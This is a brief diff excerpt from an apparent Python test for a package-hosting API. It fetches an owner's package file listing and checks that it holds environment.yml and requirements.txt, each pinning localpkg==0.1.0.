+        f"{server.api}/package/{owner.login}/{name}", headers=auth(owner.token), timeout=30
+    ).json()["files"]
     assert {item["basename"] for item in listed} == {"environment.yml", "requirements.txt"}
     assert all("localpkg==0.1.0" in item["dependencies"]["pip"] for item in listed)
